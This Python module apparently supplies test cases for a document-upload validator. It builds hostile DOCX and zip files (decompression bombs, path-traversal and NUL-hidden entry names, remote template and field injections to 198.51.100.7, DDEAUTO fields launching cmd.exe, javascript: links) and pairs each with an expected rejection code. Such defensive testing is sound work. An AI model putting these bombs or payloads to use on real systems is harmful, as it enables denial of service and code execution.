"""Attacks on the zip and on what a package holds; the table of ids, files and codes."""

import zipfile
from collections.abc import Callable

from attacks.files import (
    MEBIBYTE,
    NOISE,
    SOUND,
    Entry,
    R,
    W,
    body,
    bomb,
    changed,
    deflated,
    document,
    emf,
    field,
    jpeg,
    parts_of,
    png,
    related,
    typed,
    with_entries,
    zip_of,
    zipped,
)
from service.documents.package import write_package

Attack = Callable[[], bytes]
Table = dict[str, tuple[str, Attack]]

_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_VBA = "application/vnd.ms-office.vbaProject"
_TEMPLATE_REMOTE = "http://198.51.100.7/x.dotm"


def spaces(part: str) -> bytes:
    """Make a bomb: a gigabyte of spaces in a megabyte."""
    return zip_of([*(deflated(name, data) for name, data in parts_of().items()), bomb(part, 1000)])


def lying(size: int) -> bytes:
    """Make a bomb that says it is small."""
    return zip_of([deflated("word/document.xml", b" " * (40 * MEBIBYTE), size=size)])


def overlapping() -> bytes:
    """Many entries that share the data of one (Fifield's bomb, 42.zip without nesting)."""
    kernel = deflated("a0", b" " * (2 * MEBIBYTE))
    again = [
        Entry(b"a%d" % number, kernel.packed, kernel.size, kernel.checksum, offset=0)
        for number in range(1, 1500)
    ]
    return zip_of([kernel, *again])


def hidden_count() -> bytes:
    """60,000 entries of which the end record tells two."""
    return zip_of([deflated(f"a{number}", b"") for number in range(60_000)], count=2)


def without(part: str) -> bytes:
    """Take a part away."""
    return write_package({name: data for name, data in parts_of().items() if name != part})


def of_kind(kind: str) -> bytes:
    """Make a package of Office whose main part is of another kind."""
    types = parts_of()["[Content_Types].xml"]
    return changed("[Content_Types].xml", types.replace(b"wordprocessingml.document.main", kind.encode()))


def macro_document() -> bytes:
    """Make a .docm: the same document with another content type, and a project."""
    parts = parts_of()
    types = parts["[Content_Types].xml"].replace(_DOCUMENT.encode(), _MACRO.encode())
    return write_package(parts | {"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def nul_name() -> bytes:
    """Hide the end of a name behind a NUL."""
    return with_entries(("word/a.xmlQ.exe", b"x")).replace(b"a.xmlQ", b"a.xml\0")


def flagged(flag: int) -> bytes:
    """Set a flag of the last entry, in both headers."""
    data = bytearray(with_entries(("word/z.xml", b"<a/>")))
    for signature, offset in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        data[data.rindex(signature) + offset] |= flag
    return bytes(data)


def with_method(method: int) -> bytes:
    """Claim another way of compressing."""
    return zip_of([Entry(b"word/document.xml", b"x" * 40, 40, 0, method=method)])


def zip64_elsewhere() -> bytes:
    """Make a zip whose hidden zip64 locator leads readers of zipfile to another directory."""
    directory_name = b"n" * 40 + b"PK\6\7" + b"\0" * 16
    return zip_of([Entry(directory_name, b"", 0, 0, method=0)])


CONTAINER: Table = {
    "DC-DOCX-01 empty": ("empty_file", lambda: b""),
    "DC-DOCX-06 a gigabyte of text": ("too_large_unpacked", lambda: spaces("word/a.xml")),
    "DC-DOCX-06 within the ratio, sixteen mebibytes of spaces in one text": (
        "text_too_long",
        lambda: with_entries(
            ("word/media/b.png", png(1, 1) + NOISE), ("word/a.xml", b"<a>" + b" " * (15 * MEBIBYTE) + b"</a>")
        ),
    ),
    "DC-DOCX-07 a gigabyte of a picture nobody uses": (
        "too_large_unpacked",
        lambda: spaces("word/media/b.png"),
    ),
    "DC-DOCX-08 a size that is a lie, zero": ("too_large_unpacked", lambda: lying(0)),
    "DC-DOCX-08 a size that is a lie, small": ("too_large_unpacked", lambda: lying(1000)),
    "DC-DOCX-08 a size that is a little wrong": (
        "corrupt",
        lambda: zip_of([deflated("word/document.xml", b"<a/>", size=5)]),
    ),
    "DC-DOCX-09 a zip in embeddings": (
        "active_content",
        lambda: with_entries(("word/embeddings/a.zip", zipped(("x", b"x")))),
    ),
    "DC-DOCX-09 a zip that calls itself a picture": (
        "active_content",
        lambda: with_entries(("word/media/a.png", zipped(("x", b"x")))),
    ),
    "DC-DOCX-09 entries that share data": ("corrupt", overlapping),
    "DC-DOCX-09 a second directory behind a zip64 record": ("corrupt", zip64_elsewhere),
    "DC-DOCX-10 60,000 entries": (
        "too_many_parts",
        lambda: zip_of([deflated(f"a{number}", b"") for number in range(60_000)]),
    ),
    "DC-DOCX-10 60,000 entries, two of them told": ("corrupt", hidden_count),
    **{
        f"DC-DOCX-12 the name {name}": ("unsafe_name", lambda name=name: with_entries((name, b"<a/>")))  # type: ignore[misc]
        for name in ("../../x", "/etc/x", "C:\\x", "word\\x.xml", "word/../x", "word//x", "./x", "word/a\nb")
    },
    "DC-DOCX-12 a name behind a NUL": ("unsafe_name", nul_name),
    "DC-DOCX-12 the same name twice": (
        "unsafe_name",
        lambda: with_entries(("word/document.xml", b"<a/>")),
    ),
    "DC-DOCX-12 names that differ in case": (
        "unsafe_name",
        lambda: with_entries(("WORD/Document.xml", b"<a/>")),
    ),
    "DC-DOCX-14 encrypted": ("encrypted", lambda: flagged(0x1)),
    "DC-DOCX-14 a whole file with a password": (
        "encrypted",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99,
    ),
    "DC-DOCX-15 a wrong checksum": (
        "corrupt",
        lambda: zip_of([deflated("word/document.xml", b"<a/>", checksum=7)]),
    ),
    **{
        f"DC-DOCX-15 compressed by method {method}": ("corrupt", lambda method=method: with_method(method))  # type: ignore[misc]
        for method in (1, 9, 12, 14, 93, 99)
    },
    "DC-DOCX-15 bzip2": ("corrupt", lambda: with_entries(("a", b"x" * 99), method=zipfile.ZIP_BZIP2)),
    **{
        f"DC-DOCX-16 without {part}": ("not_docx", lambda part=part: without(part))  # type: ignore[misc]
        for part in ("[Content_Types].xml", "_rels/.rels", "word/document.xml")
    },
    **{
        f"DC-DOCX-16 a file of the kind {kind}": ("not_docx", lambda kind=kind: of_kind(kind))  # type: ignore[misc]
        for kind in (
            "spreadsheetml.sheet.main",
            "presentationml.presentation.main",
            "wordprocessingml.template.main",
        )
    },
    "DC-DOCX-17 a page before the zip": ("not_docx", lambda: b"<html></html>" + SOUND),
    "DC-DOCX-17 a program before the zip": ("not_docx", lambda: b"MZ" + b"\0" * 60 + SOUND),
    "DC-DOCX-17 a zip before the zip": ("corrupt", lambda: zipped(("a", b"x")) + SOUND),
    "DC-DOCX-17 a page behind the zip": ("corrupt", lambda: SOUND + b"<script>1</script>"),
    "DC-DOCX-17 a page in the comment of the zip": (
        "corrupt",
        lambda: SOUND[:-2] + b"\x12\0" + b"<script>1</script>",
    ),
    **{
        f"DC-DOCX-19 a template at {target}": (
            "active_content",
            lambda target=target: related(  # type: ignore[misc]
                "attachedTemplate",
                target,
                source="word/_rels/settings.xml.rels",
            ),
        )
        for target in (_TEMPLATE_REMOTE, "file:////198.51.100.7/share/x.dotm", "\\\\198.51.100.7\\x.dotm")
    },
    **{
        f"DC-DOCX-20 {kind} from outside": (
            "active_content",
            lambda kind=kind: related(kind, "http://198.51.100.7/x"),  # type: ignore[misc]
        )
        for kind in ("image", "oleObject", "frame", "subDocument", "aFChunk", "styles", "header", "video")
    },
    "DC-DOCX-20 an inner relationship that leads outside": (
        "active_content",
        lambda: related("image", "http://198.51.100.7/x.png", outside=False),
    ),
    "DC-DOCX-20 another file inside the text": (
        "active_content",
        lambda: document(body('<w:altChunk r:id="rId1"/>')),
    ),
    "DC-DOCX-20 the page of another file": (
        "active_content",
        lambda: related("aFChunk", "a.html", outside=False, more={"word/a.html": b"<html/>"}),
    ),
    **{
        f"DC-DOCX-20 the field {code}": ("active_content", lambda code=code: field(code))  # type: ignore[misc]
        for code in (
            ' INCLUDETEXT "http://198.51.100.7/a.docx" ',
            ' includepicture "\\\\198.51.100.7\\a.png" \\d',
            "DDE excel a",
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
            "LINK Excel.Sheet.12 a.xlsx",
            "RD a.docx",
            "DATABASE \\d a.mdb",
        )
    },
    "DC-DOCX-20 a field split over runs": ("active_content", lambda: field(" DD", "EAU", "TO cmd")),
    "DC-DOCX-20 a simple field": (
        "active_content",
        lambda: document(body('<w:p><w:fldSimple w:instr=" INCLUDETEXT a.docx "/></w:p>')),
    ),
    "DC-DOCX-20 a field in a field": (
        "active_content",
        lambda: field(
            'IF 1 = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            'INCLUDETEXT a.docx</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            "<w:r><w:instrText>"
        ),
    ),
    "DC-DOCX-20 a field whose name a field computes": (
        "active_content",
        lambda: field(
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            'QUOTE "DDE"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            "<w:r><w:instrText>AUTO cmd"
        ),
    ),
    "DC-DOCX-20 a field that never ends": (
        "active_content",
        lambda: document(
            body(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"
            )
        ),
    ),
    "DC-DOCX-20 a picture of VML by its address": (
        "active_content",
        lambda: document(
            body(
                '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml"'
                ' src="http://198.51.100.7/a.png"/></w:pict></w:r></w:p>'
            )
        ),
    ),
    "DC-DOCX-20 a data source for mail merge": (
        "active_content",
        lambda: changed("word/settings.xml", f"<w:settings {W}><w:mailMerge/></w:settings>".encode()),
    ),
    "DC-DOCX-20 an object": (
        "active_content",
        lambda: document(body('<w:p><w:r><w:object><OLEObject Type="Embed"/></w:object></w:r></w:p>')),
    ),
    "DC-DOCX-20 a control": (
        "active_content",
        lambda: document(body(f'<w:p><w:r><w:object><w:control {R} r:id="a"/></w:object></w:r></w:p>')),
    ),
    "DC-DOCX-20 macros": ("active_content", macro_document),
    "DC-DOCX-20 a project of macros alone": (
        "active_content",
        lambda: typed("word/vbaProject.bin", _VBA, b"\xd0\xcf\x11\xe0"),
    ),
    "DC-DOCX-20 a program": ("active_content", lambda: with_entries(("word/a.bin", b"MZ" + b"\0" * 99))),
    **{
        f"DC-DOCX-22 a link to {target}": (
            "active_content",
            lambda target=target: related("hyperlink", target),  # type: ignore[misc]
        )
        for target in (
            "javascript:alert(1)",
            "JaVaScript:alert(1)",
            " javascript:alert(1)",
            "java&#10;script:alert(1)",
            "file:///c:/windows/system32/cmd.exe",
            "vbscript:x",
            "\\\\198.51.100.7\\x",
            "data:text/html,x",
            "ms-word:ofe|u|http://x",
            "a.docx",
        )
    },
    "DC-DOCX-22 a link in a field": (
        "active_content",
        lambda: field(' HYPERLINK \\t "_blank" "file:///c:/x.exe" '),
    ),
    "DC-DOCX-23 a PNG of 65535 × 65535": (
        "image_too_large",
        lambda: changed("word/media/a.png", png(65535, 65535)),
    ),
    "DC-DOCX-23 a JPEG of 65535 × 65535": (
        "image_too_large",
        lambda: changed("word/media/a.jpeg", jpeg(65535, 65535)),
    ),
    "DC-DOCX-23 a GIF of 65535 × 65535": (
        "image_too_large",
        lambda: changed("word/media/a.gif", b"GIF89a\xff\xff\xff\xff"),
    ),
    "DC-DOCX-23 a BMP of 65535 × 65535": (
        "image_too_large",
        lambda: changed("word/media/a.bmp", b"BM" + b"\0" * 12 + b"(\0\0\0" + b"\xff\xff\0\0" * 2),
    ),
    "DC-DOCX-23 an EMF of a hundred mebibytes": (
        "image_too_large",
        lambda: with_entries(("word/media/a.emf", emf(9, 9) + b"\0" * (100 * MEBIBYTE))),
    ),
    "DC-DOCX-23 an EMF that says it is larger than it is": (
        "image_too_large",
        lambda: changed("word/media/a.emf", emf(9, 9, 100 * MEBIBYTE)),
    ),
    "DC-DOCX-23 an EMF of two million units": (
        "image_too_large",
        lambda: changed("word/media/a.emf", emf(2_000_000, 9)),
    ),
    "DC-DOCX-23 an SVG of a hundred mebibytes": (
        "image_too_large",
        lambda: with_entries(("word/media/a.svg", b"<svg>" + b" " * (100 * MEBIBYTE))),
    ),
    "DC-DOCX-23 an SVG of a million units": (
        "image_too_large",
        lambda: changed("word/media/a.svg", b'<svg width="1000000" height="9"/>'),
    ),
    "DC-DOCX-25 signed": (
        "signed_document",
        lambda: changed("_xmlsignatures/sig1.xml", b"<Signature/>"),
    ),
}
